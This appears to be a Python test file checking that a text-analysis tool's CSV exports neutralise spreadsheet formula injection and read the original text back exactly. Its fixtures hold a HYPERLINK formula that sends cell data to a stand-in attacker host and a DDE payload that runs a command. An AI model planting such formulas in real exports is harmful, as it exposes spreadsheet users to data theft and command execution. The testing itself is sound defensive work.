"""Spreadsheet formulas in CSV cells: neutralised by the OWASP convention, and restored exactly on reading."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from cocreation_nlp.formulas import TRIGGERS, needs_mark, neutralise, restore

cells = st.text(
    alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "1", '"', ","]), max_size=8
)


@given(cells | st.text(max_size=30))
def test_csv_formulas_neutralise_then_restore_is_exact(text: str):
    marked = neutralise(text)
    assert isinstance(marked, str)
    assert not marked.startswith(TRIGGERS)  # never a formula in a spreadsheet
    assert restore(marked) == text
    assert (marked != text) == needs_mark(text)


def test_csv_formulas_only_text_cells_change():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert [neutralise(t) for t in ["=1+1", "+44 20", "-x", "@SUM(A1)", "\tTab", "\rCR", "safe", ""]] == [
        "'=1+1",
        "'+44 20",
        "'-x",
        "'@SUM(A1)",
        "'\tTab",
        "'\rCR",
        "safe",
        "",
    ]


# ---------------------------------------------------------------- every CSV writer

import csv  # noqa: E402
import json  # noqa: E402
from pathlib import Path  # noqa: E402

import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from cocreation_nlp.cli import app  # noqa: E402

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PARAGRAPH = f"{FORMULA} residents and tenants co-designed the repairs service with the council."
HEADING = "-Residents panel"


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _no_formula(path: Path) -> None:
    """No cell of the CSV starts with a formula trigger (a spreadsheet would run none of them)."""
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            assert not any(cell.startswith(TRIGGERS) for cell in row), (path.name, row)


@pytest.fixture()
def hostile_corpus(tmp_path: Path) -> Path:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "plan.md").write_text(f"# {HEADING}\n\n{PARAGRAPH}\n", encoding="utf-8")
    (corpus / "manifest.csv").write_text(
        "doc_id,file,title,publisher\nplan,plan.md,\"@SUM(1+1)*cmd|' /C calc'!A0\",+Council\n",
        encoding="utf-8",
    )
    return corpus


def test_csv_formulas_parse_and_classify_csv_are_neutralised_and_read_back(
    hostile_corpus: Path, tmp_path: Path
):
    out = tmp_path / "p" / "passages.csv"
    assert (
        CliRunner().invoke(app, ["parse", str(hostile_corpus), "-o", str(out), "--no-progress"]).exit_code
        == 0
    )
    _no_formula(out)
    rows = {r["kind"]: r for r in _cells(out)}
    assert rows["heading"]["text"] == "'" + HEADING  # headings are passages too
    assert rows["paragraph"]["text"] == "'" + PARAGRAPH and rows["paragraph"]["heading"] == "'" + HEADING
    # classify reads the marked CSV back as the original text; its JSONL output keeps text exactly.
    preds = tmp_path / "pred.jsonl"
    r = CliRunner().invoke(app, ["classify", str(out), "-o", str(preds), "--model", "rules"])
    assert r.exit_code == 0, r.output
    lines = {
        json.loads(line)["kind"]: json.loads(line) for line in preds.read_text(encoding="utf-8").splitlines()
    }
    assert lines["paragraph"]["text"] == PARAGRAPH and lines["paragraph"]["heading"] == HEADING
    preds_csv = tmp_path / "pred.csv"
    assert (
        CliRunner().invoke(app, ["classify", str(out), "-o", str(preds_csv), "--model", "rules"]).exit_code
        == 0
    )
    _no_formula(preds_csv)
    assert {r["text"] for r in _cells(preds_csv)} == {
        "'" + HEADING,
        "'" + PARAGRAPH,
    }  # marked once, not twice
    # --raw-csv writes the cells as they are.
    raw = tmp_path / "raw" / "passages.csv"
    args = ["parse", str(hostile_corpus), "-o", str(raw), "--no-progress", "--raw-csv"]
    assert CliRunner().invoke(app, args).exit_code == 0
    assert {r["text"] for r in _cells(raw)} == {HEADING, PARAGRAPH}


def test_csv_formulas_score_tables_summary_and_report(hostile_corpus: Path, tmp_path: Path):
    out = tmp_path / "run"
    args = ["score", str(hostile_corpus), "-o", str(out), "--model", "rules", "--workers", "1"]
    r = CliRunner().invoke(app, [*args, "--no-progress", "--format", "parquet"])
    assert r.exit_code == 0, r.output
    for name in ("passages", "documents", "evidence", "errors"):
        _no_formula(out / f"{name}.csv")
    doc = _cells(out / "documents.csv")[0]
    assert doc["title"].startswith("'@SUM") and doc["publisher"] == "'+Council"
    assert any(row["text"] == "'" + PARAGRAPH for row in _cells(out / "passages.csv"))
    # Parquet keeps the text exactly.
    parquet = pd.read_parquet(out / "documents.parquet")
    assert parquet.loc[0, "publisher"] == "+Council" and parquet.loc[0, "title"].startswith("@SUM")
    assert PARAGRAPH in set(pd.read_parquet(out / "passages.parquet")["text"])
    # summarize groups by the real value and marks it once in its own CSV.
    summary = tmp_path / "summary.csv"
    r = CliRunner().invoke(app, ["summarize", str(out), "--by", "publisher", "-o", str(summary)])
    assert r.exit_code == 0, r.output
    _no_formula(summary)
    assert {row["publisher"] for row in _cells(summary)} == {"'+Council"}
    # The report shows the title itself, not the mark.
    html = tmp_path / "report.html"
    assert CliRunner().invoke(app, ["report", str(out), "-o", str(html)]).exit_code == 0
    page = html.read_text(encoding="utf-8")
    assert "@SUM(1+1)" in page and "&#39;@SUM" not in page and "'@SUM" not in page
    # The raw option: the same run's CSVs exactly, and the tables are rewritten (not reused).
    r = CliRunner().invoke(app, [*args, "--no-progress", "--raw-csv"])
    assert r.exit_code == 0, r.output
    assert _cells(out / "documents.csv")[0]["publisher"] == "+Council"


def test_csv_formulas_annotation_csv_export_round_trips(tmp_path: Path):
    from cocreation_nlp.annotate.cli import annotate_app
    from cocreation_nlp.annotate.records import read_records
    from cocreation_nlp.annotate.store import AnnotationStore, PassageRow

    db = tmp_path / "p.db"
    store = AnnotationStore(db)
    store.add_passages([PassageRow("d:1", "d", PARAGRAPH)])
    store.save_decision("d:1", "ada", ["equity"], comment="=1+1 hard case")
    store.close()
    out = tmp_path / "labels.csv"
    r = CliRunner().invoke(annotate_app, ["export", str(db), "-o", str(out)])
    assert r.exit_code == 0, r.output
    _no_formula(out)
    (rec,) = read_records(out)
    assert rec.comment == "=1+1 hard case" and rec.text == PARAGRAPH
    r = CliRunner().invoke(annotate_app, ["export", str(db), "-o", str(out), "--raw-csv"])
    assert r.exit_code == 0 and _cells(out)[0]["comment"] == "=1+1 hard case"
